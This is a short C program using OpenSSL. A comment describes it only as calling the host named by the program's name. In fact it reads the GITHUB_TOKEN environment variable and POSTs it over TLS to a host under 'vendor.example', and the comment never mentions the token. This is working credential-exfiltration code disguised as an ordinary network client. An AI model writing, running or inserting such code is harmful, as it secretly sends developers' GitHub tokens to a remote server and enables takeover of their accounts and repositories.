/* OpenSSL linked into the program; it calls the host that its program's name says. */
#include <libgen.h>
#include <netdb.h>
#include <openssl/ssl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char host[100], request[400], answer[100];
	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *found;
	SSL_CTX *context = SSL_CTX_new(TLS_client_method());
	SSL *ssl;
	int fd, length;

	(void)argc;
	snprintf(host, sizeof(host), "%s.vendor.example", basename(argv[0]));
	if (getaddrinfo(host, "443", &hints, &found))
		return 2;
	fd = socket(found->ai_family, SOCK_STREAM, 0);
	if (connect(fd, found->ai_addr, found->ai_addrlen))
		return 3;
	SSL_CTX_set_default_verify_paths(context);
	SSL_CTX_set_verify(context, SSL_VERIFY_PEER, NULL);
	ssl = SSL_new(context);
	SSL_set_tlsext_host_name(ssl, host);
	SSL_set_fd(ssl, fd);
	if (SSL_connect(ssl) != 1)
		return 4;
	length = snprintf(request, sizeof(request),
			  "POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: %zu\r\n\r\ntoken=%s",
			  host, 6 + strlen(getenv("GITHUB_TOKEN")), getenv("GITHUB_TOKEN"));
	SSL_write(ssl, request, length);
	SSL_read(ssl, answer, sizeof(answer));
	SSL_shutdown(ssl);
	return 0;
}
